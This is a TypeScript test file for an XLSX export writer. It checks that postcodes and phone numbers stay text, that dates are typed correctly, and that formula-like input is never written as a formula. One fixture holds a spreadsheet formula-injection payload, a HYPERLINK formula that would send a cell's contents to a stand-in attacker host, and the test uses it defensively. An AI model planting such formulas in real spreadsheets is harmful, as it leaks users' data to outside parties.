import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { fieldColumns } from './table';
import { xlsxFromTable } from './xlsx';

async function readBack(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

const columns = fieldColumns<Record<string, unknown>>(
  ['zip', 'phone', 'reference', 'price', 'day', 'at', 'name'],
  { price: 'number', day: 'date', at: 'datetime' },
);

describe('the one XLSX writer', () => {
  it('types each cell: postcodes, phones and references as text, amounts as numbers, days as dates', async () => {
    const rows = [
      {
        zip: '01000',
        phone: '0612345678',
        reference: '00042',
        price: 245000.5,
        day: '2026-03-09',
        at: '2026-07-01T21:30:00.000Z',
        name: 'Zoë « cœur »',
      },
    ];
    const sheet = await readBack(await xlsxFromTable({ sheet: 'Biens', columns, rows }));
    expect(sheet.name).toBe('Biens');
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'zip',
      'phone',
      'reference',
      'price',
      'day',
      'at',
      'name',
    ]);
    const row = sheet.getRow(2);
    expect(row.getCell(1).value).toBe('01000');
    expect(row.getCell(1).numFmt).toBe('@');
    expect(row.getCell(2).value).toBe('0612345678');
    expect(row.getCell(2).numFmt).toBe('@');
    expect(row.getCell(3).value).toBe('00042');
    expect(row.getCell(4).value).toBe(245000.5);
    expect(row.getCell(5).value).toEqual(new Date(Date.UTC(2026, 2, 9)));
    expect(row.getCell(5).type).toBe(ExcelJS.ValueType.Date);
    // 21:30 UTC in July is 23:30 in Paris: the day the agency lived.
    expect(row.getCell(6).value).toEqual(new Date(Date.UTC(2026, 6, 1, 23, 30)));
    expect(row.getCell(7).value).toBe('Zoë « cœur »');
  });

  it('never writes a formula: a text starting with = stays text', async () => {
    const rows = [
      { name: '=1+1 Zéro', zip: '=HYPERLINK("http://evil.example/?x="&A1;"clic")', price: '=1+1' },
    ];
    const bytes = await xlsxFromTable({ sheet: 'x', columns, rows });
    const row = (await readBack(bytes)).getRow(2);
    expect(row.getCell(7).value).toBe('=1+1 Zéro');
    expect(row.getCell(7).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(4).value).toBe('=1+1');
    const sheetXml = strFromU8(
      unzipSync(new Uint8Array(bytes))['xl/worksheets/sheet1.xml'] ?? new Uint8Array(),
    );
    expect(sheetXml).toContain('<row');
    expect(sheetXml).not.toContain('<f>');
  });

  it('leaves an empty value empty and keeps a sheet name Excel accepts', async () => {
    const bytes = await xlsxFromTable({
      sheet: 'Registre transaction / gestion : mandats [2026]',
      columns,
      rows: [{ zip: null, price: undefined, day: '' }],
    });
    const sheet = await readBack(bytes);
    expect(sheet.name.length).toBeLessThanOrEqual(31);
    expect(sheet.name).not.toMatch(/[[\]:*?/\\]/);
    expect(sheet.getRow(2).getCell(1).value).toBeNull();
  });
});
